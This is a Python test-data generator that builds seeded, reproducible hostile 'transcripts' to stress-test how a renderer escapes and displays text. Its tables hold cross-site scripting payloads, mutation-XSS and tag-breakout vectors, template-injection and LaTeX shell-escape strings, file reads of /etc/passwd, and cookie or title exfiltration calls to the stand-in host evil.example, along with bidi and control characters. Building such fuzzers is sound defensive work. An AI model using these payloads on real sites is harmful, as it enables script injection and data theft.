"""Transcripts as hostile as a model, or whoever steers one, could write them.

A grammar of our own, drawn from with a fixed seed: the same number gives the same texts. Every text
is made of several payloads of different kinds, some spoiled in the middle, so that no two of ten
thousand are alike and every kind meets every other.
"""

import random
from collections.abc import Callable, Iterator

CANARY = "tinaBenchCanary"
EVIL = "evil.example"
TAGS = (
    "a", "abbr", "article", "audio", "base", "bdo", "blockquote", "body", "button", "canvas",
    "center", "clipPath", "custom-element", "details", "dialog", "div", "embed", "fieldset",
    "font", "form", "foreignObject", "frame", "frameset", "head", "html", "i", "iframe", "image",
    "img", "input", "isindex", "keygen", "label", "link", "listing", "main", "map", "marquee",
    "math", "menu", "meta", "mglyph", "mtext", "noembed", "noframes", "noscript", "object",
    "optgroup", "option", "p", "param", "plaintext", "pre", "script", "section", "select",
    "slot", "source", "style", "summary", "svg", "table", "tbody", "td", "template", "textarea",
    "tfoot", "th", "title", "tr", "track", "use", "video", "xmp", "annotation-xml", "animate",
    "set", "desc", "mi", "mo", "ruby", "rt", "portal", "search",
)  # fmt: skip
EVENTS = (
    "onload", "onerror", "onclick", "onmouseover", "onfocus", "onblur", "ontoggle",
    "onanimationstart", "ontransitionend", "onpointerenter", "onscroll", "onwheel", "onbegin",
    "onend", "onpageshow", "onhashchange", "onbeforeunload", "onmessage",
)  # fmt: skip
CODE = (
    f"window.{CANARY}=1", f"{CANARY}=document.cookie", "alert(1)", "confirm`1`", "print()",
    f"fetch('//{EVIL}/?'+document.title)", f"new Image().src='https://{EVIL}/x'",
    f"import('//{EVIL}/x.js')", f"navigator.sendBeacon('//{EVIL}','x')", "console.log(1)",
    f"location='https://{EVIL}'", f"open('//{EVIL}')", "document.body.innerHTML=''",
    f"new WebSocket('ws://{EVIL}')", "throw Error('ran')", "history.pushState(0,0,'/x')",
    f"[].constructor.constructor('{CANARY}=1')()", f"setTimeout('{CANARY}=1')",
)  # fmt: skip
CLOSERS = (
    "</pre>", "</details>", "</article>", "</template>", "</textarea>", "</title>", "</style>",
    "</script>", "</noscript>", "</section>", "</main>", "</body>", "</html>", "</table>", "</td>",
    "</svg>", "</math>", "-->", "--!>", "]]>", "</pre", "</pre/>", "</PRE\t>", "</select>", "</p>",
    "</pre foo=bar>", "?>", "%>", "</xmp>", "</iframe>", "</span>", "</code>", "</data>",
)  # fmt: skip
BIDI = "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200e\u200f\u061c"
ZERO = "\u200b\u200c\u200d\u2060\ufeff\u00ad\u034f\u180e\u115f\u3164\uffa0\u2028\u2029"
CONTROL = "".join(map(chr, [*range(0x20), *range(0x7F, 0xA0)]))
SURROGATE = "\ud800\udbff\udc00\udfff"
NONCHARACTER = "\ufffe\uffff\ufdd0\U0001fffe\U0010ffff"
FORMAT = "\ufff9\ufffa\ufffb\U000e0001\U000e0041\U000e007f\ufe0f\U0001d173"
COMBINING = [*map(chr, range(0x300, 0x370)), *map(chr, range(0x1AB0, 0x1ABF)), "\u0488", "\u20dd",
             "\u0e49", "\u0eb1", "\u06d6", "\u0f74"]  # fmt: skip
WIDE = "\ufdfd\u2e3b\u3000\uff37\U0001242b\u0bf5\u102a\ua9c5\U0001f3f4"
Rng = random.Random


def _case(rng: Rng, text: str) -> str:
    return "".join(rng.choice((c.lower(), c.upper())) for c in text)


def _quoted(rng: Rng, value: str) -> str:
    return rng.choice((f'"{value}"', f"'{value}'", value, f"`{value}`", f'"{value}'))


def _address(rng: Rng) -> str:
    code = rng.choice(CODE)
    return rng.choice(
        (
            f"javascript:{code}", f" \x01javascript:{code}", f"java\tscript:{code}",
            f"&#106;avascript&colon;{code}", f"JaVaScRiPt:{code}", f"//{EVIL}/x", f"https://{EVIL}",
            f"data:text/html,<script>{code}</script>", f"vbscript:{code}", f"\\\\{EVIL}\\x",
            f"data:image/svg+xml;base64,PHN2Zz4=#{code}", f"blob:https://{EVIL}/x", "//////x",
            f"http:{EVIL}", f"https:/{EVIL}", "file:///etc/passwd", f"jar:javascript:{code}!/x",
        )
    )  # fmt: skip


def _attribute(rng: Rng) -> str:
    kind = rng.randrange(8)
    if kind < 3:
        return f"{_case(rng, rng.choice(EVENTS))}={_quoted(rng, rng.choice(CODE))}"
    if kind < 6:
        name = rng.choice(
            ("href", "src", "srcset", "action", "formaction", "xlink:href", "data", "poster",
             "ping", "background", "to", "values", "code", "manifest")
        )  # fmt: skip
        return f"{name}={_quoted(rng, _address(rng))}"
    if kind == 6:
        return rng.choice(
            (
                f"style=\"background:url(//{EVIL}/x);position:fixed;inset:0;z-index:9999\"",
                f"srcdoc=\"<script>parent.{CANARY}=1</script>\"", "autofocus tabindex=1", "hidden",
                f"id={CANARY}", "name=querySelector", "http-equiv=refresh content='0;url=//x'",
                "rel=stylesheet", "is=x-y", "slot=a", "contenteditable", "popover",
            )
        )  # fmt: skip
    return f"{rng.choice(['a', '', 'x/', chr(0), '<', '='])}{rng.choice(['=', ' ', '/'])}"


def _tag(rng: Rng) -> str:
    name = rng.choice(TAGS)
    name = _case(rng, name) if rng.random() < 0.3 else name
    gap = rng.choice((" ", "\n", "\t", "/", "\x0c", "/ /", "\x00"))
    attributes = gap.join(_attribute(rng) for _ in range(rng.randrange(4)))
    inner = rng.choice(("", rng.choice(CODE), "x", "<b>", rng.choice(CLOSERS)))
    end = rng.choice((f"</{name}>", "", "/>", ">", f"</{name}"))
    return f"<{name}{gap}{attributes}{rng.choice(('>', '/>', '', ' >'))}{inner}{end}"


def _breakout(rng: Rng) -> str:
    closers = "".join(rng.choice(CLOSERS) for _ in range(rng.randrange(1, 5)))
    return f"{closers}<script>{rng.choice(CODE)}</script>{_tag(rng)}"


def _mutation(rng: Rng) -> str:
    code = rng.choice(CODE)
    run = f"<img src=1 onerror={code}>"
    return rng.choice(
        (
            f"<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;{run}\">",
            f"<noscript><p title=\"</noscript>{run}\">",
            f"<svg></p><style><a id=\"</style>{run}\">",
            f"<form><math><mtext></form><form><mglyph><style></math>{run}",
            f"<table><td><select><template><style>{run}</style></template>",
            f"<svg><desc><![CDATA[</desc>{run}]]></svg>",
            f"<math><annotation-xml encoding=\"text/html\">{run}</annotation-xml></math>",
            f"<listing>&lt;{run[1:]}</listing>", f"<xmp><p title=\"</xmp>{run}\"></xmp>",
            f"<a title=\"{'`' * 5}{run}\">", f"<!--><{run[1:]}-->", f"<!--{run}--!>{run}",
            f"<textarea><img title=\"</textarea>{run}\">", f"<p id=\"&quot;&gt;{run}\">",
            f"<svg><animate onbegin={code} attributeName=x dur=1s>", f"<?xml {run} ?>{run}",
            f"<svg><use href=\"data:image/svg+xml,<svg id=x>{run}</svg>#x\"/></svg>",
            f"<template shadowrootmode=open>{run}</template>", f"<plaintext>{run}",
            f"<!DOCTYPE x [<!ENTITY a \"{run}\"><!ENTITY b \"&a;&a;&a;\">]>&b;&a;",
        )
    )  # fmt: skip


def _entities(rng: Rng) -> str:
    spelled = (
        "&lt;", "&#60;", "&#x3c;", "&#x3C", "&LT", "\\u003c", "\\x3c", "%3C", "&amp;lt;", "\uff1c",
        "\u2039", "&#0000060", "&lt", "&#xFFFFFFFF;", "&#0;", "&#xD800;", "&NewLine;", "&Tab;",
        "&bogus;", "&", "&#", "&#x", "+ADw-", "\x3c",
    )  # fmt: skip
    return "".join(f"{rng.choice(spelled)}script>{rng.choice(CODE)}" for _ in range(3))


def _template(rng: Rng) -> str:
    return rng.choice(
        (
            "{{ 7*7 }}{% include '/etc/passwd' %}{# x #}", "${7*7}#{7*7}<%= 7*7 %>[[7*7]]",
            "{{ self.__init__.__globals__ }}", "{{constructor.constructor('alert(1)')()}}",
            "{% raw %}{% endraw %}{% block content %}{% endblock %}", "{{ '<b>'|safe }}",
            "%(x)s {0.__class__} %n %s", "@{evil} ~{x} *{y}", "`${alert(1)}`", "{{{x}}}",
            "⟨U+202E⟩ ⟨U+0000⟩ ⟨U+FFFFFFFF⟩", '<span class="control">⟨U+202E⟩</span>',
        )
    )  # fmt: skip


def _markdown(rng: Rng) -> str:
    address = _address(rng)
    return rng.choice(
        (
            f"[x]({address})", f"![x]({address})", f"<{address}>", f"[x][1]\n\n[1]: {address}",
            f"```html\n{_tag(rng)}\n```", f"| a |\n|--|\n| {_tag(rng)} |", f"# {_tag(rng)}",
            f"[x]({address} \"onmouseover={rng.choice(CODE)}\")", f"arXiv:2504.15777 {address}",
        )
    )  # fmt: skip


def _latex(rng: Rng) -> str:
    deep = rng.randrange(10, 200)
    return rng.choice(
        (
            "\\frac{" * deep + "1" + "}{2}" * deep, "\\def\\x{\\x\\x}\\x", "\\input{/etc/passwd}",
            "$$" + "\\sqrt{" * deep + "x", f"\\href{{{_address(rng)}}}{{x}}", "\\write18{id}",
            f"\\text{{{_tag(rng)}}}", "\\rule{9999em}{9999em}", "\\hspace{-999em}" * 3, "\\[\\]$",
            "\\boxed{" + _tag(rng) + "}", "\\begin{array}{" + "c" * deep + "}" + "&" * deep,
            "\\htmlData{x=1}\\unicode{x202E}", "\\includegraphics{//evil.example/x}",
            "\\newcommand{\\a}{\\a}\\a" * 3, "^{" * deep, "\\kern-9999pt\\raise9999pt\\hbox{x}",
        )
    )  # fmt: skip


def _hidden(rng: Rng) -> str:
    pool = rng.choice((BIDI, ZERO, CONTROL, SURROGATE, NONCHARACTER, FORMAT, BIDI + CONTROL))
    return "".join(
        f"{rng.choice(pool)}{rng.choice('ab <>&1')}" for _ in range(rng.randrange(2, 30))
    )


def _stack(rng: Rng) -> str:
    height = rng.choice((3, 40, 400, 1500))
    marks = "".join(rng.choice(COMBINING) for _ in range(height))
    return "".join(rng.choice("Zäא中อ") + marks[: rng.randrange(1, height)] for _ in range(6))


def _long(rng: Rng) -> str:
    unit = rng.choice(
        (
            "A",
            "W",
            "\u00a0",
            "_",
            "\t",
            "\n",
            "<",
            "&",
            ">",
            "'\"",
            "\ufdfd",
            "中",
            "‱",
            "🏴‍☠️",
            ". ",
        )
    )
    return unit * rng.randrange(50, 1500)


def _wide(rng: Rng) -> str:
    return "".join(rng.choice(WIDE) for _ in range(rng.randrange(1, 60)))


def _noise(rng: Rng) -> str:
    planes = ((0, 0x100), (0x100, 0x3000), (0x3000, 0x10000), (0x10000, 0x110000), (0x600, 0x700))
    low, high = rng.choice(planes)
    return "".join(chr(rng.randrange(low, high)) for _ in range(rng.randrange(1, 200)))


def _sheet(rng: Rng) -> str:
    return (
        f'=HYPERLINK("//{EVIL}") @import url(//{EVIL}); *{{display:none!important}} '
        f"</style><style>{rng.choice(('body', 'pre', '*'))}{{position:fixed;width:9999px}}</style>"
    )


KINDS: tuple[Callable[[Rng], str], ...] = (
    _tag, _breakout, _mutation, _entities, _template, _markdown, _latex, _hidden, _stack, _long,
    _wide, _noise, _sheet,
)  # fmt: skip


def _spoiled(rng: Rng, text: str) -> str:
    """With something hidden, or a line's end, put in somewhere."""
    for _ in range(rng.randrange(1, 4)):
        place = rng.randrange(len(text) + 1)
        put = rng.choice(BIDI + ZERO + "\x00\r\n\t\x1b\x85" + SURROGATE + "<>&\"'")
        text = text[:place] + put + text[place:]
    return text


def hostile(number: int) -> str:
    """The transcript of that number."""
    rng = random.Random(f"hostile {number}")
    parts = [rng.choice(KINDS)(rng) for _ in range(rng.randrange(1, 6))]
    # Every kind comes first in one of thirteen, so that a small slice has all of them.
    parts.insert(0, KINDS[number % len(KINDS)](rng))
    text = rng.choice(("", "\n", " ", "\n\n")).join(parts)
    if rng.random() < 0.5:
        text = _spoiled(rng, text)
    if number % 199 == 5:
        text = (text * (1 + 70_000 // len(text)))[: rng.randrange(60_000, 130_000)]
    # Two halves that meet are one character, in JSON and in every browser; single ones stay.
    return text.encode("utf-16", "surrogatepass").decode("utf-16", "surrogatepass")


def transcripts(count: int) -> Iterator[str]:
    """The first `count` transcripts."""
    return map(hostile, range(count))
